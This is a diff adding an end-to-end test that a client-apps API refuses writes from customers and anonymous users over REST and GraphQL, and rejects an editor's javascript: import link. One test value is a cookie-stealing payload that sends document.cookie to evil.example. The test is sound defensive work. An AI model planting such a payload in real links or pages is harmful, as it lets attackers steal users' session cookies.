@@ -238,3 +238,25 @@ test('a broken percent-escape is refused by nginx before it reaches the site', a
     expect(await response.text(), path).not.toMatch(/at .+\.js:\d+|node_modules/)
   }
 })
+
+test('client apps are read by anyone and written by staff only, over REST and GraphQL; a link that would run script is refused', async ({ request }) => {
+  const customer = await newCustomer(request)
+  const listed = (await (await request.get('/api/client-apps?limit=1&depth=0')).json()) as { docs: { id: number; name: string }[] }
+  const target = listed.docs[0]!
+  const hostile = { name: 'Evil', platform: 'ios', protocols: ['vless'], storeUrl: 'https://evil.example/app', format: 'base64', importTemplate: 'happ://add/{url}' }
+  for (const auth of [customer.auth, {}]) {
+    expect((await request.post('/api/client-apps', { headers: auth, data: hostile })).status()).toBe(403)
+    expect((await request.patch(`/api/client-apps/${target.id}`, { headers: auth, data: { storeUrl: 'https://evil.example/app' } })).status()).toBe(403)
+    expect((await request.delete(`/api/client-apps/${target.id}`, { headers: auth })).status()).toBe(403)
+    const mutation = await graphql(request, auth, `mutation { updateClientApp(id: ${target.id}, data: { storeUrl: "https://evil.example/app" }) { storeUrl } }`)
+    expect(mutation.errors?.[0]?.message).toBeTruthy()
+  }
+  const after = (await (await request.get(`/api/client-apps/${target.id}?depth=0`)).json()) as { storeUrl: string }
+  expect(after.storeUrl).not.toContain('evil.example')
+
+  // Even an editor cannot put a javascript: link behind an "Add" button.
+  const editorAuth = { Authorization: `JWT ${await tokenFor(request, DEMO_ACCOUNTS.find((account) => account.role === 'editor')!.email, DEMO_ACCOUNTS.find((account) => account.role === 'editor')!.password)}` }
+  const refused = await request.post('/api/client-apps', { headers: { ...editorAuth, 'accept-language': 'ru' }, data: { ...hostile, importTemplate: 'javascript:fetch(`//evil.example?${document.cookie}`)//{url}' } })
+  expect(refused.status()).toBe(400)
+  expect(JSON.stringify(await refused.json())).toContain('importTemplate')
+})
